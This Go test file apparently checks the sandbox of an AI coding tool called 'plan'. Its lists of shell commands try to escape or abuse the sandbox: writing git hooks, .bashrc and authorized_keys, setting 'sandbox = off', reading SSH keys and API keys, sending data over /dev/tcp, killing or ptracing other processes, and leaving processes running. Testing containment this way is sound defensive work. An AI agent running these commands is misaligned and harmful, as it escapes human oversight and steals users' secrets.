package sandbox_test

import (
	"fmt"
	"os/exec"
	"slices"
	"strings"
)

// attempt is one way to do what a reviewer must not do. It runs in a shell
// that stands in the tree, with these variables: TREE, ALIAS (for root, the tree
// mounted a second time), OTHER (a repository beside it), PHOME (where plan keeps its data), VICTIM (a process outside that
// stands in the tree and has a file of it open as descriptor 9), TCP, TCP6, UDP
// (addresses outside), SOCK (a socket outside, in the home), TSOCK (one in the
// temporary folder), ABSTRACT, FD (a file of the tree that plan has open), ID
// (something unique) and ESC (the program for what a shell cannot do).
type attempt struct {
	family string // attempts sets it
	name   string
	line   string
	// won says whether it worked. Default: something in the arena changed.
	won func(a *arena, out string) bool
	// root says that only root can do it even without a wall.
	root bool
	// landlock is why the attempt works where there is only Landlock.
	landlock string
	// implement says that Implement may do it.
	implement bool
}

func printed(word string) func(*arena, string) bool {
	return func(_ *arena, out string) bool { return strings.Contains(out, word) }
}

const (
	metadata = "Landlock does not see changes of mode, owner, times and attributes; in the tree they are noticed afterwards"
	sockets  = "before its ABI 9, Landlock does not see sockets that have a path"
	ownUser  = "Landlock does not see what a user does to the limits and priority of processes of its own"
	visible  = "without a namespace, System V memory is shared by all of a user's processes"
)

func attempts() []attempt {
	var all []attempt
	for _, f := range []struct {
		family   string
		attempts []attempt
	}{
		{"tree", inTree()},
		{"git", withGit()},
		{"elsewhere", elsewhere()},
		{"processes", processes()},
		{"leaks", leaks()},
		{"network", network()},
		{"kernel", kernel()},
		{"languages", byLanguages()},
		{"caches", intoCaches()},
	} {
		for _, try := range f.attempts {
			try.family = f.family
			all = append(all, try)
		}
	}
	return all
}

// byLanguages are writes to the tree by what is installed here.
func byLanguages() []attempt {
	var out []attempt
	for _, l := range [][2]string{
		{"node", `node -e 'require("fs").writeFileSync("file", "x")'`},
		{"perl", `perl -e 'open(my $f, ">", "file"); print $f "x"'`},
		{"python3", `python3 -c 'open("file", "w").write("x")'`},
		{"ruby", `ruby -e 'File.write("file", "x")'`},
	} {
		if _, err := exec.LookPath(l[0]); err == nil {
			out = append(out, attempt{name: l[0], line: l[1], implement: true})
		}
	}
	if _, err := exec.LookPath("gcc"); err == nil {
		out = append(out, attempt{name: "LD_PRELOAD", implement: true, line: `cd "$(mktemp -d)" && printf '#include <stdio.h>\n__attribute__((constructor)) void f(void){FILE*o=fopen("%s","a");if(o)fputs("x",o);}' "$TREE/file" >p.c && gcc -shared -fPIC -o p.so p.c && LD_PRELOAD=$PWD/p.so ls`})
	}
	return out
}

// inTree are writes to the tree by every road.
func inTree() []attempt {
	lines := map[string]string{
		"redirect":            `echo x >>file`,
		"truncate":            `: >file`,
		"tee":                 `echo x | tee file`,
		"dd":                  `printf x | dd of=file conv=notrunc`,
		"copy over":           `cp /etc/hostname file || cp /etc/passwd file`,
		"install":             `install -m 600 /etc/passwd file`,
		"move away":           `mv file gone`,
		"remove":              `rm -rf dir`,
		"find -delete":        `find dir -delete`,
		"make a directory":    `mkdir newer`,
		"replace by a link":   `ln -sf /etc/passwd file`,
		"hard link":           `ln file hard && echo x >>hard`,
		"move the tree":       `mv "$TREE" "$TREE.old"`,
		"sed -i":              `sed -i s/before/after/ file`,
		"awk":                 `awk 'BEGIN { print "x" > "file" }'`,
		"read-write open":     `exec 3<>file && echo x >&3`,
		"compiled program":    `$ESC write file`,
		"mmap":                `$ESC mmap file`,
		"fallocate":           `$ESC punch file`,
		"exchange":            `$ESC exchange file dir/other`,
		"fifo":                `mkfifo pipe`,
		"mknod":               `$ESC mknod pipe`,
		"tar":                 `tar c file | tar x --transform s/file/new/`,
		"empty environment":   `env -i bash -c 'echo x >>file'`,
		"nested shells":       `sh -c "bash -c 'sh -c \"echo x >>file\"'"`,
		"here document":       "bash <<'X'\necho x >>file\nX",
		"xargs":               `echo file | xargs rm`,
		"absolute path":       `echo x >>"$TREE/file"`,
		"dots":                `echo x >>"$TREE/dir/../dir/../file"`,
		"/proc/self/cwd":      `echo x >>/proc/self/cwd/file`,
		"/proc/self/root":     `echo x >>"/proc/self/root$TREE/file"`,
		"/proc/thread-self":   `echo x >>"/proc/thread-self/root$TREE/file"`,
		"link out of /tmp":    `d=$(mktemp -d) && ln -s "$TREE" "$d/l" && echo x >>"$d/l/file"`,
		"background":          `(echo x >>file) & wait`,
		"through a directory": `cd dir && echo x >>../file`,
	}
	out := []attempt{
		{name: "chmod", line: `chmod 777 file`, landlock: metadata, implement: true},
		{name: "chmod of a directory", line: `chmod 700 dir`, landlock: metadata, implement: true},
		{name: "touch", line: `touch -d 2001-01-01 file`, landlock: metadata, implement: true},
		{name: "chown", line: `chown 1:1 file`, root: true, landlock: metadata, implement: true},
		{name: "attribute", line: `$ESC xattr file`, landlock: metadata, implement: true},
		{name: "device", line: `$ESC device null`, root: true},
		{name: "late writer", implement: true, line: `setsid sh -c 'sleep 0.3; echo late >>file' >/dev/null 2>&1 &`, won: (*arena).changesSoon},
		{name: "later writer", implement: true, line: `nohup sh -c '(sleep 0.3; echo late >>file) &' >/dev/null 2>&1`, won: (*arena).changesSoon},
		{name: "inherited descriptor", line: `echo x >&$FD`},
		{name: "descriptor of another", line: `echo x >/proc/$VICTIM/fd/9`},
		{name: "cwd of another", line: `echo x >>/proc/$VICTIM/cwd/file`},
		{name: "root of another", line: `echo x >>"/proc/$VICTIM/root$TREE/file"`},
		{name: "cwd of the parent", line: `echo x >>"/proc/$PPID/root$TREE/file"`, implement: true},
	}
	for name, line := range lines {
		out = append(out, attempt{name: name, line: line, implement: true})
	}
	slices.SortFunc(out, func(a, b attempt) int { return strings.Compare(a.name, b.name) })
	return out
}

// withGit are writes to the repository.
func withGit() []attempt {
	git := func(name, line string) attempt { return attempt{name: "git " + name, line: line} }
	loose := func(name, line string) attempt { return attempt{name: "git " + name, line: line, implement: true} } // also writes the tree
	return []attempt{
		git("commit", `git commit -q --allow-empty -m x`),
		git("add", `git add -A -f new 2>/dev/null; git update-index --cacheinfo 100644,$(git rev-parse HEAD:file),y`),
		loose("stash", `echo x >>file; git stash -q`),
		git("config", `git config core.pager "sh -c evil"`),
		git("config by hand", `echo '[core] hooksPath = /tmp' >>.git/config`),
		git("hook", `printf '#!/bin/sh\nevil\n' >.git/hooks/pre-commit`),
		git("worktree", `git worktree add -q "$(mktemp -d)/w"`),
		git("alternates", `echo /tmp >.git/objects/info/alternates`),
		git("update-ref", `git update-ref refs/heads/evil HEAD`),
		git("gc", `git gc -q --prune=now`),
		git("branch", `git branch evil`),
		git("tag", `git tag evil`),
		git("symbolic-ref", `git symbolic-ref HEAD refs/heads/evil`),
		git("replace", `git replace --graft HEAD`),
		git("reflog", `git reflog expire --expire=now --all`),
		git("exclude", `echo file >>.git/info/exclude`),
		git("object", `echo x | git hash-object -w --stdin`),
		git("remove", `rm -rf .git`),
		git("move", `mv .git .git2`),
		loose("checkout", `echo x >file; git checkout -q -f file; git checkout -q -b evil`),
		loose("clean", `git clean -qfdx; rm -f untracked`),
		loose("apply", `printf -- '--- a/file\n+++ b/file\n@@ -1 +1 @@\n-before\n+after\n' | git apply`),
		git("in another repository", `git -C "$OTHER" commit -q --allow-empty -m x`),
		git("settings of the user", `git config --global core.pager evil`),
		git("other directory", `GIT_DIR="$OTHER/.git" git update-ref refs/heads/evil HEAD`),
	}
}

// elsewhere are writes outside the tree.
func elsewhere() []attempt {
	at := func(path string) func(*arena, string) bool {
		return func(a *arena, _ string) bool { return a.appeared(path) }
	}
	return []attempt{
		{name: "another repository", line: `echo x >>"$OTHER/file"`},
		{name: "dots to another repository", line: `echo x >>../other/file`},
		{name: "link to another repository", line: `ln -s ../other l; echo x >>l/file`},
		{name: "another mount of the tree", line: `echo x >>"$ALIAS/file"`, root: true},
		{name: "hard link of another's file", line: `ln "$OTHER/file" h; echo x >>h`},
		{name: "hard link into another's folder", line: `ln file "$OTHER/h"`},
		{name: "race of a path", line: `$ESC race "$TREE/r" "$OTHER/file"`},
		{name: "mode of another's file", line: `chmod 777 "$OTHER/file"`, landlock: metadata},
		{name: "start-up file", line: `echo evil >>~/.bashrc`},
		{name: "start-up file, renamed", line: `mv ~/.bashrc ~/.bashrc2`},
		{name: "authorized_keys", line: `echo evil >>~/.ssh/authorized_keys`},
		{name: "program in PATH", line: `printf '#!/bin/sh\n' >~/bin/plan`},
		{name: "plan's database", line: `echo x >>"$PHOME/plan.db"`},
		{name: "plan's settings", line: `echo 'sandbox = "off"' >>"$PHOME/config.toml"`},
		{name: "plan's skills", line: `mkdir -p "$PHOME/skills/evil"`},
		{name: "plan's home, removed", line: `rm -rf "$PHOME"`},
		{name: "/tmp", line: `echo x >"/tmp/escape-$ID"`, won: at("/tmp/escape-")},
		{name: "/var/tmp", line: `echo x >"/var/tmp/escape-$ID"`, won: at("/var/tmp/escape-")},
		{name: "/dev/shm", line: `echo x >"/dev/shm/escape-$ID"`, won: at("/dev/shm/escape-")},
		{name: "/etc", line: `echo x >"/etc/escape-$ID"`, won: at("/etc/escape-"), root: true},
		{name: "/usr/local/bin", line: `echo x >"/usr/local/bin/escape-$ID"`, won: at("/usr/local/bin/escape-"), root: true},
		{name: "sysctl", line: `v=$(cat /proc/sys/kernel/core_pattern); echo "$v" >/proc/sys/kernel/core_pattern && echo ` + escaped, won: printed(escaped), root: true},
		{name: "/sys", line: `f=/sys/kernel/mm/transparent_hugepage/defrag; v=$(sed 's/.*\[\(.*\)\].*/\1/' $f); echo "$v" >$f && echo ` + escaped, won: printed(escaped), root: true},
		{name: "control groups", line: `for d in /sys/fs/cgroup /sys/fs/cgroup/*; do mkdir "$d/escape-$ID" && rmdir "$d/escape-$ID" && echo ` + escaped + ` && break; done`, won: printed(escaped), root: true},
		{name: "disk", line: `for d in /dev/vda /dev/sda /dev/nvme0n1 /dev/xvda; do [ -b $d ] && exec 3<>$d && echo ` + escaped + ` && break; done`, won: printed(escaped), root: true},
	}
}

// intoCaches are writes to what the user's build tools have kept.
func intoCaches() []attempt {
	var out []attempt
	for _, name := range cacheFiles {
		out = append(
			out,
			attempt{name: "change ~/" + name, line: fmt.Sprintf(`f=~/%q; echo x >>"$f"`, name)},
			attempt{name: "replace ~/" + name, line: fmt.Sprintf(`f=~/%q; echo x >"$f.new" && mv "$f.new" "$f"`, name)},
			attempt{name: "add beside ~/" + name, line: fmt.Sprintf(`f=~/%q; echo x >"$(dirname "$f")/more"`, name)},
		)
	}
	return append(
		out,
		attempt{name: "move caches away", line: `mv ~/go/pkg/mod ~/go/pkg/mod2; mv ~/.npm ~/.npm2; mv ~/.gradle/caches ~/.gradle/c2`},
		attempt{name: "a cache by /proc/self/root", line: `echo x >>"/proc/self/root$HOME/.npm/_npx/1a/run"`},
		attempt{name: "a cache by another's root", line: `echo x >>"/proc/$VICTIM/root$HOME/.npm/_npx/1a/run"`},
		attempt{name: "a hard link to a cache", line: `ln ~/.npm/_npx/1a/run h && echo x >>h`},
	)
}

// processes are attacks on processes outside.
func processes() []attempt {
	return []attempt{
		{name: "kill", line: `kill -9 $VICTIM`, won: (*arena).victimDied},
		{name: "kill by pidfd", line: `$ESC pidfdsignal $VICTIM`, won: (*arena).victimDied},
		{name: "stop", line: `kill -STOP $VICTIM && echo ` + escaped, won: printed(escaped)},
		{name: "ptrace", line: `$ESC ptrace $VICTIM`, won: printed(escaped)},
		{name: "process_vm_readv", line: `$ESC vmwrite $VICTIM`, won: printed(escaped)},
		{name: "/proc/pid/mem", line: `$ESC mem $VICTIM`, won: printed(escaped)},
		{name: "/proc/pid/environ", line: `cat /proc/$VICTIM/environ`, won: printed(canary)},
		{name: "memory of the parent", line: `exec 3<>/proc/$PPID/mem && echo ` + escaped, won: printed(escaped)},
		{name: "memory of the parent, read", line: `exec 3</proc/$PPID/mem && echo ` + escaped, won: printed(escaped)},
		{name: "descriptors of the parent", line: `readlink /proc/$PPID/fd/1 && echo ` + escaped, won: printed(escaped)},
		{name: "descriptor by pidfd", line: `$ESC pidfd $VICTIM`, won: printed(escaped)},
		{name: "limits of another", line: `$ESC prlimit $VICTIM`, won: printed(escaped), landlock: ownUser},
		{name: "priority of another", line: `$ESC nice $VICTIM`, won: printed(escaped), landlock: ownUser},
		{name: "oom_score_adj of another", line: `echo 500 >/proc/$VICTIM/oom_score_adj && echo ` + escaped, won: printed(escaped)},
		{name: "survivor: setsid", line: `setsid sleep 9$ID >/dev/null 2>&1 </dev/null & sleep 0.1`, won: (*arena).survived},
		{name: "survivor: daemon", line: `$ESC daemon 9$ID`, won: (*arena).survived},
		{name: "survivor: own group", line: `set -m; sleep 9$ID >/dev/null 2>&1 </dev/null & sleep 0.1`, won: (*arena).survived},
	}
}

// leaks are reads of what is hidden.
func leaks() []attempt {
	var out []attempt
	for _, path := range secretFiles {
		out = append(out, attempt{name: "read ~/" + path, line: fmt.Sprintf("cat ~/%q", path), won: printed(canary)})
	}
	for _, path := range privateFiles {
		out = append(out, attempt{name: "read ~/" + path, line: fmt.Sprintf("cat ~/%q", path), won: printed(canary)})
	}
	for path := range settingFiles {
		out = append(out, attempt{name: "read ~/" + path, line: fmt.Sprintf("cat ~/%q", path), won: printed(canary)})
	}
	return append(
		out,
		attempt{name: "read the settings of git", line: `git config --list --show-origin`, won: printed(canary)},
		attempt{name: "read the home as a whole", line: `tar c -C ~ . 2>/dev/null | tar xO`, won: printed(canary)},
		attempt{name: "read the home by a way around", line: `cat "$FOO_HOME/../home/.env" "$TREE/../other/.env" ~/.nvm/../.env`, won: printed(canary)},
		attempt{name: "read the home by a link in it", line: `ln -s ../.env ~/.nvm/l; ln -s ~ ~/all; cat ~/.nvm/l ~/all/.env; rm -f ~/all ~/.nvm/l`, won: printed(canary)},
		attempt{name: "read what lies under the home", line: `umount -l ~ 2>/dev/null; cat ~/.env`, won: printed(canary)},
		attempt{name: "hard link to a private file", line: `ln ~/.env k; cat k`, won: printed(canary)},
		attempt{name: "key in an address", line: `echo "$MY_DB $SENTRY_DSN $APP_PASSWORD"`, won: printed(canary)},
		attempt{name: "read plan's database", line: `cat "$PHOME/plan.db"`, won: printed(canary)},
		attempt{name: "read plan's settings", line: `cat "$PHOME/config.toml"`, won: printed(canary)},
		attempt{name: "read by a link", line: `ln -s ~/.ssh /tmp/l$ID 2>/dev/null || ln -s ~/.ssh "$TMPDIR/l$ID"; cat /tmp/l$ID/id_ed25519 "$TMPDIR/l$ID/id_ed25519"; rm -f /tmp/l$ID`, won: printed(canary)},
		attempt{name: "read by /proc/self/root", line: `cat "/proc/self/root$HOME/.ssh/id_ed25519"`, won: printed(canary)},
		attempt{name: "read by another's root", line: `cat "/proc/$VICTIM/root$HOME/.ssh/id_ed25519"`, won: printed(canary)},
		attempt{name: "read with tar", line: `tar c -C ~ .ssh | tar xO`, won: printed(canary)},
		attempt{name: "read by grep", line: `grep -rh ` + canary + ` ~`, won: printed(canary)},
		attempt{name: "hard link to a key", line: `ln ~/.ssh/id_ed25519 k; cat k`, won: printed(canary)},
		attempt{name: "key in the environment", line: `env`, won: printed(canary)},
		attempt{name: "key in the shell's variables", line: `echo "$OPENAI_API_KEY $AWS_SECRET_ACCESS_KEY"`, won: printed(canary)},
		attempt{name: "key in the parent's environment", line: `tr '\0' '\n' </proc/$PPID/environ; env`, won: printed(canary)},
	)
}

// network are ways to talk to the world.
func network() []attempt {
	heard := func(what string) func(*arena, string) bool {
		return func(a *arena, _ string) bool { return a.heard(what) }
	}
	return []attempt{
		{name: "TCP by bash", line: `exec 3<>/dev/tcp/${TCP/:/\/} && echo out >&3`, won: heard("tcp"), implement: true},
		{name: "TCP", line: `$ESC tcp $TCP`, won: heard("tcp"), implement: true},
		{name: "TCP over IPv6", line: `$ESC tcp $TCP6`, won: heard("tcp6"), implement: true},
		{name: "UDP", line: `$ESC udp $UDP`, won: heard("udp"), implement: true},
		{name: "DNS", line: `$ESC dns $UDP`, won: heard("udp"), implement: true},
		{name: "git over the network", line: `timeout 2 git ls-remote git://$TCP/x`, won: heard("tcp"), implement: true},
		{name: "socket in the home", line: `$ESC unix "$SOCK"`, won: heard("sock"), landlock: sockets},
		{name: "socket in the temporary folder", line: `$ESC unix "$TSOCK"`, won: heard("tsock"), landlock: sockets},
		{name: "abstract socket", line: `$ESC abstract "$ABSTRACT"`, won: heard("abstract")},
		{name: "vsock", line: `$ESC socket 40 1`, won: printed(escaped)},
		{name: "packet socket", line: `$ESC socket 17 3`, won: printed(escaped), root: true},
		{name: "kernel crypto socket", line: `$ESC socket 38 5`, won: printed(escaped)},
	}
}

// kernel are calls that widen what a process can do.
func kernel() []attempt {
	return []attempt{
		{name: "user namespace", line: `$ESC newuser`, won: printed(escaped)},
		{name: "unshare", line: `unshare -Ur true && echo ` + escaped, won: printed(escaped)},
		{name: "mount in a namespace", line: `unshare -Urm sh -c 'mount -t tmpfs none /mnt && echo ` + escaped + `'`, won: printed(escaped)},
		{name: "bind mount", line: `mount --bind "$OTHER" dir && echo x >>dir/file; umount dir`, root: true},
		{name: "mount over the tree", line: `mount -t tmpfs none dir && echo ` + escaped + `; umount dir`, won: printed(escaped), root: true},
		{name: "setns", line: `$ESC setns $VICTIM net`, won: printed(escaped), root: true},
		{name: "nsenter", line: `nsenter -t $VICTIM -m true && echo ` + escaped, won: printed(escaped), root: true},
		{name: "chroot", line: `chroot / true && echo ` + escaped, won: printed(escaped), root: true},
		{name: "keyring", line: `$ESC keyctl`, won: printed(escaped)},
		{name: "io_uring", line: `$ESC iouring`, won: printed(escaped)},
		{name: "userfaultfd", line: `$ESC userfault`, won: printed(escaped)},
		{name: "bpf", line: `$ESC bpf`, won: printed(escaped), root: true},
		{name: "perf", line: `$ESC perf`, won: printed(escaped), root: true},
		{name: "personality", line: `$ESC personality`, won: printed(escaped)},
		{name: "file handle", line: `$ESC handle "$OTHER/file"`, root: true},
		{name: "System V memory", line: `$ESC shm $ID`, won: (*arena).sharesMemory, landlock: visible},
	}
}
